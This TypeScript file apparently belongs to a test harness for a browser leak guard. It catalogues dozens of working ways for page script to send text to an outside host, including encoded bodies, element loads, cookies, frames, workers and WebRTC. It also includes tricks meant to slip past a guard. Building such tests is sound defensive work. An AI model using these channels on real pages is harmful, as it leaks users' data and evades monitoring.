/**
 * The ways in which a page's script can send something, each a function that runs in the page. Every text begins with
 * the name of its way, so that what arrives tells which way it took. A way that needs another site's window gets that
 * site as `other`.
 */
export interface Way {
  readonly name: string
  /** It carries nothing itself: it would lead to a path around a guard. */
  readonly isTrick?: true
  /** It opens a window: afterwards the page is in the background, where a browser does little. */
  readonly opens?: true
  /** It changes what all others send, so it runs alone. */
  readonly isAlone?: true
  readonly how?: string
  readonly run: (text: string, given: Given) => unknown
}

export interface Given {
  /** A URL of the site that accepts everything. */
  readonly to: string
  /** A page of another site, which reports messages to its own server. */
  readonly other: string
  /** Selects one of several ways that differ by a word; a function that runs in the page has no closure. */
  readonly how: string
}

const way = (name: string, run: Way['run']): Way => ({ name, run })
const opening = (name: string, run: Way['run']): Way => ({ name, run, opens: true })
const trick = (name: string, run: Way['run']): Way => ({ name, run, isTrick: true })
const alone = (name: string, run: Way['run']): Way => ({ name, run, isAlone: true })

export const WAYS: readonly Way[] = [
  // Requests.
  way('fetch', (text, { to }) => fetch(to, { method: 'POST', body: text })),
  way('fetch of another window', (text, { to }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const inner = frame.contentWindow as Window
    return fetch.call(inner, to, { method: 'POST', body: text })
  }),
  trick('options with a getter', (text, { to }) => {
    let reads = 0
    const init = {
      method: 'POST',
      get body() {
        reads += 1
        return reads === 1 ? 'the weather' : text
      },
    }
    return fetch(to, init)
  }),
  trick('an address that changes', (text, { to }) => {
    let reads = 0
    const address = {
      toString() {
        reads += 1
        return `${to}?q=${encodeURIComponent(reads === 1 ? 'the weather' : text)}`
      },
    }
    return fetch(address as unknown as string)
  }),
  way('a referrer', (text, { to }) =>
    fetch(to, { referrer: `/from?q=${encodeURIComponent(text)}`, referrerPolicy: 'unsafe-url' }),
  ),
  way('fetchLater', (text, { to }) =>
    (window as unknown as { fetchLater(to: string, init: object): unknown }).fetchLater(to, {
      method: 'POST',
      body: text,
      activateAfter: 0,
    }),
  ),
  way('a cache', async (text, { to }) => (await caches.open('x')).add(`${to}?q=${encodeURIComponent(text)}`)),
  way('the name of a field', (text, { to }) => {
    const form = new FormData()
    form.set(text, 'x')
    return fetch(to, { method: 'POST', body: form })
  }),
  way('the name of a file', (text, { to }) => {
    const form = new FormData()
    form.set('file', new File(['x'], `${text}.txt`))
    return fetch(to, { method: 'POST', body: form })
  }),
  way('a password of a request', (text, { to }) => {
    const request = new XMLHttpRequest()
    request.open('POST', `${to}?by=xhr`, true, 'me', /Marcus Bell/.exec(text)?.[0])
    request.setRequestHeader('x-way', text.split(' Write')[0] ?? '')
    request.send(/Marcus Bell/.exec(text)?.[0])
  }),
  way('an event source', (text, { to }) => new EventSource(`${to}?q=${encodeURIComponent(text)}`)),
  way('a beacon', (text, { to }) => navigator.sendBeacon(to, text)),
  // Compressed, or in another encoding.
  way('gzip', async (text, { to }) => {
    const packed = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))
    return fetch(to, { method: 'POST', body: await new Response(packed).arrayBuffer() })
  }),
  way('deflate', async (text, { to }) => {
    const packed = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate'))
    return fetch(to, { method: 'POST', body: await new Response(packed).blob() })
  }),
  way('raw deflate', async (text, { to }) => {
    const packed = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'))
    return fetch(to, { method: 'POST', body: await new Response(packed).arrayBuffer() })
  }),
  way('base64', (text, { to }) => fetch(to, { method: 'POST', body: JSON.stringify({ blob: btoa(text) }) })),
  way('base64 of an address', (text, { to }) =>
    fetch(to, { method: 'POST', body: `v=${btoa(`xx${text}`).replaceAll('+', '-')}` }),
  ),
  way('UTF-16', (text, { to }) => {
    const units = Uint16Array.from(text, character => character.charCodeAt(0))
    return fetch(to, { method: 'POST', body: units })
  }),
  way('escapes of JSON', (text, { to }) => {
    const escaped = [...text].map(each => `\\u${each.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
    return fetch(to, { method: 'POST', body: `one: "${escaped}" of two` })
  }),
  way('escapes of an address', (text, { to }) => {
    const escaped = [...text].map(each => `%${each.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
    return fetch(to, { method: 'POST', body: `one: ${escaped} of two` })
  }),
  way('bytes between others', (text, { to }) => {
    const bytes = new TextEncoder().encode(text)
    const all = new Uint8Array(bytes.length + 40)
    all.fill(0xff)
    all.set(bytes.subarray(0, bytes.length), 20)
    return fetch(to, { method: 'POST', body: all })
  }),
  // What elements load.
  way('a picture', (text, { to }) => {
    new Image().src = `${to}?q=${encodeURIComponent(text)}`
  }),
  way('a set of pictures', (text, { to }) => {
    const image = new Image()
    image.srcset = `${to}?q=${encodeURIComponent(text)} 1x`
    document.body.append(image)
  }),
  way('an attribute', (text, { to }) => {
    const image = document.createElement('img')
    image.setAttribute('src', `${to}?q=${encodeURIComponent(text)}`)
  }),
  way('an attribute by itself', (text, { to }) => {
    const image = document.createElement('img')
    image.setAttribute('src', 'data:,')
    const attribute = image.getAttributeNode('src') as Attr
    attribute.value = `${to}?q=${encodeURIComponent(text)}`
  }),
  way('a script', (text, { to }) => {
    const script = document.createElement('script')
    script.src = `${to}?q=${encodeURIComponent(text)}`
    document.head.append(script)
  }),
  way('a link that prefetches', (text, { to }) => {
    const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = `${to}?q=${encodeURIComponent(text)}`
    document.head.append(link)
  }),
  way('a frame', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.src = `${to}?q=${encodeURIComponent(text)}`
    document.body.append(frame)
  }),
  way('a picture of SVG', (text, { to }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', `${to}?q=${encodeURIComponent(text)}`)
    svg.append(image)
    document.body.append(svg)
  }),
  way('a sound', (text, { to }) => {
    new Audio(`${to}?q=${encodeURIComponent(text)}`).load()
  }),
  way('a poster', (text, { to }) => {
    const video = document.createElement('video')
    video.poster = `${to}?q=${encodeURIComponent(text)}`
    document.body.append(video)
  }),
  way('markup', (text, { to }) => {
    const box = document.createElement('div')
    document.body.append(box)
    box.innerHTML = `<p>hello</p><img src="${to}?q=${encodeURIComponent(text)}">`
  }),
  way('markup beside an element', (text, { to }) => {
    document.body.insertAdjacentHTML('beforeend', `<img alt="" src='${to}?q=${encodeURIComponent(text)}'>`)
  }),
  way('a document of a frame', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<img src="${to}?q=${encodeURIComponent(text)}">`
    document.body.append(frame)
  }),
  way('a document in a blob', (text, { to }) => {
    const frame = document.createElement('iframe')
    const page = new Blob([`<img src="${to}?q=${encodeURIComponent(text)}">`], { type: 'text/html' })
    frame.src = URL.createObjectURL(page)
    document.body.append(frame)
  }),
  way('a style', (text, { to }) => {
    const box = document.createElement('div')
    box.style.cssText = `background: url("${to}?q=${encodeURIComponent(text)}")`
    box.textContent = 'x'
    document.body.append(box)
  }),
  way('a style that is set', (text, { to }) => {
    const box = document.createElement('div')
    box.textContent = 'x'
    box.style.backgroundImage = `url("${to}?q=${encodeURIComponent(text)}")`
    document.body.append(box)
  }),
  way('a sheet', (text, { to }) => {
    const sheet = new CSSStyleSheet()
    sheet.insertRule(`h1 { background: url("${to}?q=${encodeURIComponent(text)}") }`)
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
  }),
  way('a style element', (text, { to }) => {
    const style = document.createElement('style')
    style.append(`@import "${to}?q=${encodeURIComponent(text)}";`)
    document.head.append(style)
  }),
  way('a font', (text, { to }) => new FontFace('x', `url("${to}?q=${encodeURIComponent(text)}")`).load()),
  // Navigation.
  alone('an address in the history', async (text, { to }) => {
    history.replaceState(null, '', `/loose?q=${encodeURIComponent(text)}`)
    await fetch(to, { method: 'POST', body: text.split(' Write')[0] ?? '', referrerPolicy: 'unsafe-url' })
    history.replaceState(null, '', '/loose')
  }),
  ...(['href', 'assign', 'replace', 'meta'] as const).map(how => ({
    ...way(`the address of a page, by ${how}`, async (text, { to, how }) => {
      const frame = document.createElement('iframe')
      frame.src = '/loose-frame'
      document.body.append(frame)
      await new Promise(resolve => frame.addEventListener('load', resolve, { once: true }))
      const inner = frame.contentWindow as Window
      const address = `${to}?q=${encodeURIComponent(text)}`
      if (how === 'href') inner.location.href = address
      else if (how !== 'meta') inner.location[how as 'assign' | 'replace'](address)
      else {
        const meta = inner.document.createElement('meta')
        meta.httpEquiv = 'refresh'
        meta.content = `0;url=${address}`
        inner.document.head.append(meta)
      }
    }),
    how,
  })),
  opening('a link that opens elsewhere', (text, { to }) => {
    const link = document.createElement('a')
    link.href = `${to}?q=${encodeURIComponent(text)}`
    link.target = '_blank'
    link.rel = 'noopener'
    link.click()
  }),
  opening('a made-up press on a link', (text, { to }) => {
    const link = document.createElement('a')
    link.href = `${to}?q=${encodeURIComponent(text)}`
    link.target = '_blank'
    link.rel = 'noopener'
    link.dispatchEvent(new MouseEvent('click'))
  }),
  way('the ping of a link', (text, { to }) => {
    const link = document.createElement('a')
    link.href = '#here'
    link.ping = `${to}?q=${encodeURIComponent(text)}`
    document.body.append(link)
    link.click()
  }),
  opening('a window that is sent away', (text, { to }) => {
    const opened = open('', '_blank')
    if (opened !== null) opened.location.href = `${to}?q=${encodeURIComponent(text)}`
  }),
  opening('the action of a form', (text, { to }) => {
    const form = document.createElement('form')
    form.method = 'post'
    form.target = '_blank'
    form.action = `${to}?q=${encodeURIComponent(text)}`
    document.body.append(form)
    form.submit()
  }),
  opening('a form whose names hide its own', (text, { to }) => {
    const form = document.createElement('form')
    form.method = 'post'
    form.target = '_blank'
    form.action = to
    for (const [name, value] of [
      ['elements', 'x'],
      ['action', 'x'],
      ['prompt', text],
    ] as const) {
      const input = document.createElement('input')
      input.name = name
      input.value = value
      form.append(input)
    }
    document.body.append(form)
    form.requestSubmit()
  }),
  alone('a cookie', async (text, { to }) => {
    // biome-ignore lint/suspicious/noDocumentCookie: it is what is tried.
    document.cookie = `draft=${encodeURIComponent(text)}; path=/`
    await fetch(to, { method: 'POST', body: 'x' })
    // biome-ignore lint/suspicious/noDocumentCookie: it is what is tried.
    document.cookie = 'draft=; path=/; max-age=0'
  }),
  alone('a cookie of the store', async (text, { to }) => {
    const store = (window as unknown as { cookieStore: { set(name: string, value: string): Promise<void> } })
      .cookieStore
    await store.set('other', encodeURIComponent(text))
    await fetch(to, { method: 'POST', body: 'x' })
    await store.set('other', '')
  }),
  // Other windows.
  ...(['contentWindow', 'source', 'port'] as const).map(how => ({
    ...way(`another site, by ${how}`, async (text, { other, how }) => {
      const frame = document.createElement('iframe')
      frame.src = other
      document.body.append(frame)
      // As on many pages: the window is taken before the frame has navigated.
      const before = frame.contentWindow as Window
      const source = await new Promise<Window>(resolve => {
        addEventListener('message', event => {
          if (event.source === frame.contentWindow) resolve(event.source as Window)
        })
      })
      const channel = new MessageChannel()
      if (how === 'contentWindow') before.postMessage({ prompt: text }, '*')
      else if (how === 'source') source.postMessage({ prompt: text }, '*')
      else {
        before.postMessage('a port', '*', [channel.port2])
        channel.port1.postMessage({ prompt: text })
      }
    }),
    how,
  })),
  opening('another site, by open', async (text, { other }) => {
    const opened = open(other, '_blank') as Window
    // However busy the machine is, the page has come by then.
    for (let tries = 0; tries < 30; tries += 1) {
      await new Promise(resolve => setTimeout(resolve, 200))
      opened.postMessage({ prompt: text }, '*')
    }
  }),
  // The frame's new page cancels its requests, except those with keepalive.
  way('a frame by its number', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.src = '/loose-later'
    document.body.append(frame)
    return window[window.length - 1]?.fetch(to, { method: 'POST', body: text, keepalive: true })
  }),
  way('a frame of markup by its number', (text, { to }) => {
    document.body.insertAdjacentHTML('beforeend', '<iframe src="/loose-later"></iframe>')
    return window[window.length - 1]?.fetch(to, { method: 'POST', body: text, keepalive: true })
  }),
  way('a frame while it loads', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.onload = () => window[window.length - 1]?.fetch(to, { method: 'POST', body: text })
    document.body.append(frame)
  }),
  way('a frame with a script for its address', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.src = `javascript:fetch(${JSON.stringify(to)},{method:'POST',body:${JSON.stringify(text)}});void 0`
    document.body.append(frame)
  }),
  way('a frame in a shadow with a script for its address', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.src = `javascript:fetch(${JSON.stringify(to)},{method:'POST',body:${JSON.stringify(text)}});void 0`
    const host = document.createElement('div')
    document.body.append(host)
    host.attachShadow({ mode: 'closed' }).append(frame)
  }),
  way('a kept frame whose next document is on its way', async (text, { to }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const kept = frame.contentWindow as Window & typeof globalThis
    const before = kept.document
    frame.src = '/headers'
    while (kept.document === before) await new Promise(resolve => setTimeout(resolve, 2))
    return kept.fetch(to, { method: 'POST', body: text })
  }),
  way('a frame in the caption of a table', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.src = '/loose-later'
    const table = document.createElement('table')
    document.body.append(table)
    const caption = document.createElement('caption')
    caption.append(frame)
    table.caption = caption
    return window[window.length - 1]?.fetch(to, { method: 'POST', body: text, keepalive: true })
  }),
  way('a picture of a page that is embedded', async (text, { to }) => {
    const embedded = document.createElement('embed')
    embedded.type = 'image/svg+xml'
    embedded.src = '/drawing.svg'
    document.body.append(embedded)
    while (!embedded.getSVGDocument()?.defaultView) await new Promise(resolve => setTimeout(resolve, 20))
    const inner = embedded.getSVGDocument()?.defaultView as Window & typeof globalThis
    return inner.fetch(to, { method: 'POST', body: text })
  }),
  way('a frame’s own document', (text, { to }) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<script>fetch(${JSON.stringify(to)},{method:'POST',body:${JSON.stringify(text)}})</script>`
    document.body.append(frame)
  }),
  way('an object of a page', (text, { to }) => {
    const object = document.createElement('object')
    object.data = '/loose-later'
    document.body.append(object)
    return (object.contentWindow as (Window & typeof globalThis) | null)?.fetch(to, {
      method: 'POST',
      body: text,
      keepalive: true,
    })
  }),
  // Workers.
  way('the program of a worker', (text, { to }) => {
    const code = `fetch(${JSON.stringify(to)}, { method: 'POST', body: ${JSON.stringify(text)} })`
    new Worker(URL.createObjectURL(new Blob([code])))
  }),
  way('a worker made of data', (text, { to }) => {
    const code = `fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })`
    new Worker(`data:text/javascript,${encodeURIComponent(code)}`)
  }),
  way('the address of a worker', (text, { to }) => new Worker(`${to}?q=${encodeURIComponent(text)}`)),
  way('the name of a shared worker', (text, { to }) => {
    const code = `fetch(${JSON.stringify(to)}, { method: 'POST', body: self.name })`
    new SharedWorker(URL.createObjectURL(new Blob([code])), { name: text })
  }),
  way('an object that calls itself a date', async (text, { to }) => {
    const code = `onmessage = ({ data }) => fetch(${JSON.stringify(to)}, { method: 'POST', body: data.prompt })`
    const worker = new Worker(URL.createObjectURL(new Blob([code])))
    worker.postMessage({ prompt: text, [Symbol.toStringTag]: 'Date' })
  }),
  {
    name: 'a channel between peers',
    run: async text => {
      const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()]
      one.onicecandidate = ({ candidate }) => candidate && other.addIceCandidate(candidate)
      other.onicecandidate = ({ candidate }) => candidate && one.addIceCandidate(candidate)
      const channel = one.createDataChannel('x')
      const heard = new Promise<string>(resolve => {
        other.ondatachannel = ({ channel }) => {
          channel.onmessage = ({ data }) => resolve(String(data))
        }
        setTimeout(() => resolve(''), 14_000)
      })
      await one.setLocalDescription()
      await other.setRemoteDescription(one.localDescription as RTCSessionDescription)
      await other.setLocalDescription()
      await one.setRemoteDescription(other.localDescription as RTCSessionDescription)
      channel.onopen = () => channel.send(text)
      return heard
    },
  },
]
